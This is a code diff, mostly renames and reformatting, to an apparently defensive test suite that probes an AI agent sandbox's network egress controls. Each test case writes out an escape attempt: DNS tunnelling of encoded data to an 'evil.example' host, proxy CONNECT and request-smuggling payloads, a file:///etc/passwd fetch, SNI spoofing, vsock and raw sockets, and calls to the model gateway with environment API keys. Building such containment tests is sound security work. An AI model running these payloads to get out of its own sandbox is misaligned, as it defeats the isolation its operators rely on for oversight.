@@ -5,7 +5,7 @@ from escape.attack import Attack
 PRELUDE = r"""
 import json, os, socket, ssl, struct, subprocess, sys, threading
 
-def answered(data):
+def expect_data(data):
     succeeded() if data else refused("closed")
 
 def is_gateway_response(data):
@@ -38,8 +38,8 @@ def expect_http_200(data):
 def proxy(request):
     return tcp("127.0.0.1", 3128, request)
 
-def connect(target, host=None, more=b""):
-    return proxy(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + (host or target) + b"\r\n" + more + b"\r\n")
+def connect(target, host=None):
+    return proxy(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + (host or target) + b"\r\n\r\n")
 
 def ask_model(*blocks, **fields):
     key = os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("ANTHROPIC_AUTH_TOKEN") or ""
@@ -54,12 +54,12 @@ def tool_addition(tool):
 FETCH = {"type": "web_fetch_20250910", "name": "web_fetch"}
 OWN_TOOL = {"name": "own", "input_schema": {"type": "object"}}
 
-def query(name, kind=1, server="198.18.0.1", port=53, by=udp):
+def query(name, kind=1, server="198.18.0.1", port=53, send=udp):
     labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b".") if part) + b"\0"
     message = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + struct.pack("!HH", kind, 1)
-    return by(server, port, message)
+    return send(server, port, message)
 
-def resolved(answer):
+def expect_dns_records(answer):
     # Header fields: the number of answers, and the response code.
     code, answers = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
     if answers: succeeded()
@@ -88,24 +88,24 @@ REACH_BY_CURL = "curl('https://' + HOST + '/a')"
 REACH_DIRECTLY = "curl('--noproxy', '*', 'https://' + HOST + '/a')"
 REACH_BY_CONNECT = "expect_http_200(connect(HOST.encode() + b':443'))"
 REACH_BY_ABSOLUTE_FORM = "expect_http_200(proxy(b'GET http://' + HOST.encode() + b'/a HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))"
-RESOLVE = "resolved(query(HOST))"
+RESOLVE = "expect_dns_records(query(HOST))"
 TLS_DIRECT = "tls(HOST, 443, HOST, HOST)"
 TLS_BY_PROXY = "tls('127.0.0.1', 3128, HOST, HOST, by_proxy=True)"
 LISTENER_CONTROL = """
 server = socket.create_server(("127.0.0.1", 0))
-answered(tcp("127.0.0.1", server.getsockname()[1]))"""
+expect_data(tcp("127.0.0.1", server.getsockname()[1]))"""
 UDP_CONTROL = """
 server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); server.bind(("127.0.0.1", 0))
 threading.Thread(target=lambda: server.sendto(b"hello", server.recvfrom(100)[1]), daemon=True).start()
-answered(udp("127.0.0.1", server.getsockname()[1]))"""
+expect_data(udp("127.0.0.1", server.getsockname()[1]))"""
 UNIX_CONTROL = """
 server = socket.socket(socket.AF_UNIX); server.bind("\\0control"); server.listen()
 connection = socket.socket(socket.AF_UNIX); connection.connect("\\0control"); succeeded()"""
 
 
-NO_ROUTE, GATEWAY, CLOSED = ("ENETUNREACH",), ("gateway",), ("closed", "ECONNRESET")
-UNSUPPORTED = ("EPERM", "EACCES", "EAFNOSUPPORT")
-NO_NAME = ("no such name", "refused by the resolver")
+NO_ROUTE_ERRORS, GATEWAY_WORDS, CLOSED_WORDS = ("ENETUNREACH",), ("gateway",), ("closed", "ECONNRESET")
+UNSUPPORTED_ERRORS = ("EPERM", "EACCES", "EAFNOSUPPORT")
+NO_NAME_WORDS = ("no such name", "refused by the resolver")
 
 
 def network_attacks():
@@ -150,9 +150,13 @@ def _by_address():
         ("the model API's host", "MODEL_HOST"),
         ("the server's address", "SERVER"),
     ):
-        yield Attack(f"TCP to {name}", f"answered(tcp({address}, 80))", REACH_DIRECTLY, NO_ROUTE, packet=("tcp", address, 80))  # fmt: skip
+        yield Attack(f"TCP to {name}", f"expect_data(tcp({address}, 80))", REACH_DIRECTLY, NO_ROUTE_ERRORS, packet=("tcp", address, 80))  # fmt: skip
         yield Attack(
-            f"UDP to {name}", f"answered(udp({address}, 53))", UDP_CONTROL, NO_ROUTE, packet=("udp", address, 53)
+            f"UDP to {name}",
+            f"expect_data(udp({address}, 53))",
+            UDP_CONTROL,
+            NO_ROUTE_ERRORS,
+            packet=("udp", address, 53),
         )
 
 
@@ -170,7 +174,7 @@ def _by_unusual_address():
             f"{name}, through the proxy",
             f"expect_http_200(connect(({target}).encode() + b':80'))",
             REACH_BY_CONNECT,
-            GATEWAY,
+            GATEWAY_WORDS,
         )
 
 
@@ -179,42 +183,72 @@ def _without_a_name():
         "a synthetic address without a name",
         "expect_http_200(tcp('198.18.77.7', 80, get(HOST)))",
         REACH_DIRECTLY,
-        GATEWAY,
+        GATEWAY_WORDS,
     )
     yield Attack(
-        "the server's ports on loopback", "answered(tcp('127.0.0.1', SERVER_PORT))", LISTENER_CONTROL, ("ECONNREFUSED",)
+        "the server's ports on loopback",
+        "expect_data(tcp('127.0.0.1', SERVER_PORT))",
+        LISTENER_CONTROL,
+        ("ECONNREFUSED",),
     )
     yield Attack(
         "the host's IPv6 loopback",
-        "answered(tcp('::1', SERVER_PORT, family=socket.AF_INET6))",
+        "expect_data(tcp('::1', SERVER_PORT, family=socket.AF_INET6))",
         LISTENER_CONTROL,
         ("ECONNREFUSED",),
     )
 
 
 def _by_name():
-    yield Attack("DNS query for a name that is not allowed", "resolved(query('other.example'))", RESOLVE, NO_NAME)
-    yield Attack("DNS tunnel (data in a name)", "resolved(query('c2VjcmV0LXZhbHVl.evil.example'))", RESOLVE, NO_NAME)
     yield Attack(
-        "DNS tunnel through a subdomain of an allowed host", "resolved(query('c2VjcmV0.' + HOST))", RESOLVE, NO_NAME
+        "DNS query for a name that is not allowed", "expect_dns_records(query('other.example'))", RESOLVE, NO_NAME_WORDS
     )
-    yield Attack("DNS over TCP", "resolved(query('other.example', by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))",
-                 "resolved(query(HOST, by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))", NO_NAME)  # fmt: skip
-    yield Attack("DNS query for a TXT record", "resolved(query(HOST, kind=16))", RESOLVE, (*NO_NAME, "no records"))
+    yield Attack(
+        "DNS tunnel (data in a name)",
+        "expect_dns_records(query('c2VjcmV0LXZhbHVl.evil.example'))",
+        RESOLVE,
+        NO_NAME_WORDS,
+    )
+    yield Attack(
+        "DNS tunnel through a subdomain of an allowed host",
+        "expect_dns_records(query('c2VjcmV0.' + HOST))",
+        RESOLVE,
+        NO_NAME_WORDS,
+    )
+    yield Attack("DNS over TCP", "expect_dns_records(query('other.example', send=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))",
+                 "expect_dns_records(query(HOST, send=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))", NO_NAME_WORDS)  # fmt: skip
+    yield Attack(
+        "DNS query for a TXT record",
+        "expect_dns_records(query(HOST, kind=16))",
+        RESOLVE,
+        (*NO_NAME_WORDS, "no records"),
+    )
     yield Attack(
         "a public DNS resolver",
-        "answered(query('other.example', server=PUBLIC))",
+        "expect_data(query('other.example', server=PUBLIC))",
         RESOLVE,
-        NO_ROUTE,
+        NO_ROUTE_ERRORS,
         packet=("udp", "PUBLIC", 53),
     )
-    yield Attack("a name that ends in an allowed name", "resolved(query('evil' + HOST))", RESOLVE, NO_NAME)
-    yield Attack("a name that starts with an allowed name", "resolved(query(HOST + '.evil.example'))", RESOLVE, NO_NAME)
-    yield Attack("a name that resolves to a private address", "curl('http://inside.example/x')", REACH_BY_CURL, GATEWAY)
     yield Attack(
-        "a name that resolves to the metadata address", "curl('http://metadata.example/x')", REACH_BY_CURL, GATEWAY
+        "a name that ends in an allowed name", "expect_dns_records(query('evil' + HOST))", RESOLVE, NO_NAME_WORDS
     )
-    yield Attack("a name that resolves to the server", "curl('http://own.example/x')", REACH_BY_CURL, GATEWAY)
+    yield Attack(
+        "a name that starts with an allowed name",
+        "expect_dns_records(query(HOST + '.evil.example'))",
+        RESOLVE,
+        NO_NAME_WORDS,
+    )
+    yield Attack(
+        "a name that resolves to a private address", "curl('http://inside.example/x')", REACH_BY_CURL, GATEWAY_WORDS
+    )
+    yield Attack(
+        "a name that resolves to the metadata address",
+        "curl('http://metadata.example/x')",
+        REACH_BY_CURL,
+        GATEWAY_WORDS,
+    )
+    yield Attack("a name that resolves to the server", "curl('http://own.example/x')", REACH_BY_CURL, GATEWAY_WORDS)
 
 
 def _through_the_proxy():
@@ -228,25 +262,25 @@ def _through_the_proxy():
         ("the model API's host", "MODEL_HOST.encode() + b':' + str(MODEL_PORT).encode()"),
         ("the proxy itself", "b'127.0.0.1:3128'"),
     ):
-        yield Attack(f"CONNECT to {name}", f"expect_http_200(connect({target}))", REACH_BY_CONNECT, GATEWAY)
+        yield Attack(f"CONNECT to {name}", f"expect_http_200(connect({target}))", REACH_BY_CONNECT, GATEWAY_WORDS)
     yield Attack(
         "CONNECT to another host with an allowed Host header",
         "expect_http_200(connect(b'other.example:443', HOST.encode() + b':443'))",
         REACH_BY_CONNECT,
-        GATEWAY,
+        GATEWAY_WORDS,
     )
-    yield Attack("absolute-form request to another host", "expect_http_200(proxy(b'GET http://other.example/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY)  # fmt: skip
-    yield Attack("absolute-form request with another Host header", "expect_http_200(proxy(b'GET http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY)  # fmt: skip
-    yield Attack("a file URL, through the proxy", "expect_http_200(proxy(b'GET file:///etc/passwd HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY)  # fmt: skip
-    yield Attack("two Content-Length headers", "expect_http_200(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nContent-Length: 50\\r\\n\\r\\nabcdGET http://other.example/x HTTP/1.1\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY)  # fmt: skip
-    yield Attack("Content-Length with Transfer-Encoding", "expect_http_200(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY)  # fmt: skip
+    yield Attack("absolute-form request to another host", "expect_http_200(proxy(b'GET http://other.example/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
+    yield Attack("absolute-form request with another Host header", "expect_http_200(proxy(b'GET http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
+    yield Attack("a file URL, through the proxy", "expect_http_200(proxy(b'GET file:///etc/passwd HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
+    yield Attack("two Content-Length headers", "expect_http_200(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nContent-Length: 50\\r\\n\\r\\nabcdGET http://other.example/x HTTP/1.1\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
+    yield Attack("Content-Length with Transfer-Encoding", "expect_http_200(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
     yield Attack("a pipelined request to another host", """
 connection = socket.create_connection((HOST, 80), 10)
 connection.sendall(get(HOST).replace(b"Connection: close\\r\\n", b"") + get("other.example"))
 data = b""
 while more := connection.recv(4000): data += more
 if data.count(b"HTTP/1.1 200") > 1: succeeded()
-elif data.count(b"HTTP/1.1 ") == 1 or is_gateway_response(data[data.rindex(b"HTTP/1.1 "):]): refused("gateway")""", "expect_http_200(tcp(HOST, 80, get(HOST)))", GATEWAY)  # fmt: skip
+elif data.count(b"HTTP/1.1 ") == 1 or is_gateway_response(data[data.rindex(b"HTTP/1.1 "):]): refused("gateway")""", "expect_http_200(tcp(HOST, 80, get(HOST)))", GATEWAY_WORDS)  # fmt: skip
 
 
 def _through_transparent_ports():
@@ -254,46 +288,49 @@ def _through_transparent_ports():
         "TLS with another server name (SNI)",
         "tls(HOST, 443, 'other.example', 'other.example')",
         TLS_DIRECT,
-        CLOSED,
+        CLOSED_WORDS,
     )
-    yield Attack("TLS without a server name (SNI)", "tls(HOST, 443, None, HOST)", TLS_DIRECT, CLOSED)
+    yield Attack("TLS without a server name (SNI)", "tls(HOST, 443, None, HOST)", TLS_DIRECT, CLOSED_WORDS)
     yield Attack(
         "TLS with another server name (SNI) in a tunnel",
         "tls('127.0.0.1', 3128, 'other.example', HOST, by_proxy=True)",
         TLS_BY_PROXY,
-        CLOSED,
+        CLOSED_WORDS,
     )
-    yield Attack("plain HTTP on port 443", "expect_http_200(tcp(HOST, 443, get(HOST)))", TLS_DIRECT, CLOSED)
+    yield Attack("plain HTTP on port 443", "expect_http_200(tcp(HOST, 443, get(HOST)))", TLS_DIRECT, CLOSED_WORDS)
     yield Attack(
         "another Host header on port 80",
         "expect_http_200(tcp(HOST, 80, get('other.example')))",
         "expect_http_200(tcp(HOST, 80, get(HOST)))",
-        GATEWAY,
+        GATEWAY_WORDS,
     )
     yield Attack(
         "no Host header on port 80",
         "expect_http_200(tcp(HOST, 80, b'GET /x HTTP/1.0\\r\\n\\r\\n'))",
         "expect_http_200(tcp(HOST, 80, get(HOST)))",
-        GATEWAY,
+        GATEWAY_WORDS,
     )
     yield Attack(
-        "a redirect to another host", "curl('-L', 'http://' + HOST + '/away/other.example?x')", REACH_BY_CURL, GATEWAY
+        "a redirect to another host",
+        "curl('-L', 'http://' + HOST + '/away/other.example?x')",
+        REACH_BY_CURL,
+        GATEWAY_WORDS,
     )
     yield Attack("model gateway without the task's key", "expect_http_200(tcp('127.0.0.1', 8123, b'POST /v1/messages HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nContent-Length: 2\\r\\nx-api-key: made-up\\r\\n\\r\\n{}'))",
-                 "if os.environ['ANTHROPIC_BASE_URL'].startswith('http://127.0.0.1:8123'): answered(tcp('127.0.0.1', 8123))", GATEWAY)  # fmt: skip
+                 "if os.environ['ANTHROPIC_BASE_URL'].startswith('http://127.0.0.1:8123'): expect_data(tcp('127.0.0.1', 8123))", GATEWAY_WORDS)  # fmt: skip
     yield Attack("model gateway with another path", """
 key = os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("ANTHROPIC_AUTH_TOKEN") or ""
 expect_http_200(tcp("127.0.0.1", 8123, f"GET /v1/files HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nx-api-key: {key}\\r\\n\\r\\n".encode()))""",
-                 "answered(tcp('127.0.0.1', 8123))", GATEWAY)  # fmt: skip
+                 "expect_data(tcp('127.0.0.1', 8123))", GATEWAY_WORDS)  # fmt: skip
 
     yield Attack(
-        "a server-side tool of the model API", "ask_model(tools=[FETCH])", "ask_model(tools=[OWN_TOOL])", GATEWAY
+        "a server-side tool of the model API", "ask_model(tools=[FETCH])", "ask_model(tools=[OWN_TOOL])", GATEWAY_WORDS
     )
     yield Attack(
         "a server-side tool of the model API, in a message",
         "ask_model(tool_addition(FETCH))",
         "ask_model(tool_addition(OWN_TOOL))",
-        GATEWAY,
+        GATEWAY_WORDS,
     )
 
 
@@ -302,14 +339,14 @@ def _by_other_families():
         "a raw IP socket",
         "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); succeeded()",
         LISTENER_CONTROL,
-        UNSUPPORTED,
+        UNSUPPORTED_ERRORS,
     )
     yield Attack(
         "a packet socket",
         "connection = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); connection.bind(('lo', 0)); succeeded()",
         LISTENER_CONTROL,
-        UNSUPPORTED,
+        UNSUPPORTED_ERRORS,
     )
-    yield Attack("a vsock connection to the host", "connection = socket.socket(socket.AF_VSOCK); connection.settimeout(4); connection.connect((2, 1024)); succeeded()", LISTENER_CONTROL, UNSUPPORTED)  # fmt: skip
+    yield Attack("a vsock connection to the host", "connection = socket.socket(socket.AF_VSOCK); connection.settimeout(4); connection.connect((2, 1024)); succeeded()", LISTENER_CONTROL, UNSUPPORTED_ERRORS)  # fmt: skip
     yield Attack("an abstract Unix socket of the host", "connection = socket.socket(socket.AF_UNIX); connection.connect('\\0' + ABSTRACT); succeeded()", UNIX_CONTROL, ("ECONNREFUSED",))  # fmt: skip
     yield Attack("a Unix socket file of the host", "connection = socket.socket(socket.AF_UNIX); connection.connect(SOCKET_FILE); succeeded()", UNIX_CONTROL, ("ENOENT",), host_paths=("SOCKET_FILE",))  # fmt: skip
